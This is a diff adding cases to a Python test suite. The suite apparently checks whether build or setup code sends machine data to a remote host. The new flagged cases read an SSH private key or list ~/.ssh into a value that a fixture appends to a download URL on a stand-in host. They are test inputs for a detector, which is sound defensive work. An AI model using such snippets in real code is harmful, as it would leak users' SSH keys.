@@ -158,6 +158,15 @@ FETCHED = b"urllib.request.urlretrieve('https://x.example.org/lib-' + name, 'lib
         b"name = 'a'\nsubprocess.check_call(['make'], env=dict(os.environ, CC='cc'))\n",
         b"name = 'a'\nsubprocess.check_call(['make'], env=os.environ)\n",
         b"name = platform.uname().machine\n",
+        (
+            b"from pathlib import Path\nFILE = Path.home() / '.config' / 'a' / 'id'\nif not FILE.exists():\n"
+            b"    FILE.parent.mkdir(parents=True)\n    FILE.write_text('new')\nname = FILE.read_text()\n"
+        ),
+        (
+            b"file = os.path.join(os.path.expanduser('~'), '.cache', 'name')\nif not os.path.exists(file):\n"
+            b"    with open(file, 'w') as f:\n        f.write('a')\nwith open(file) as f:\n    name = f.read()\n"
+        ),
+        b"name = 'a'\nos.makedirs(os.path.expanduser('~/.a'), exist_ok=True)\n",
         b"uname = platform.uname()\nname = uname.system\nif not name:\n    raise OSError(f'unknown: {uname}')\n",
     ],
 )
@@ -171,6 +180,11 @@ def test_what_is_learned_of_the_machine_and_kept_is_not_sent(keeps: bytes) -> No
         b"env = os.environ.copy()\nname = str(env)\nsubprocess.check_call(['make'], env=env)\n",
         b"env = {**os.environ}\nname = repr(list(env.values()))\n",
         b"name = str(dict(os.environ))\n",
+        b"from pathlib import Path\nname = (Path.home() / '.ssh' / 'id').read_text()\n",
+        b"file = os.path.join(os.path.expanduser('~'), '.ssh', 'id')\nname = open(file).read()\n",
+        b"file = os.path.expanduser('~/.ssh/id')\nwith open(file, 'rb') as f:\n    name = f.read()\n",
+        b"name = os.path.expanduser('~')\n",
+        b"name = ' '.join(os.listdir(os.path.expanduser('~/.ssh')))\n",
         b"uname = platform.uname()\nname = '-'.join(uname)\nprint(uname.system)\n",
     ],
 )
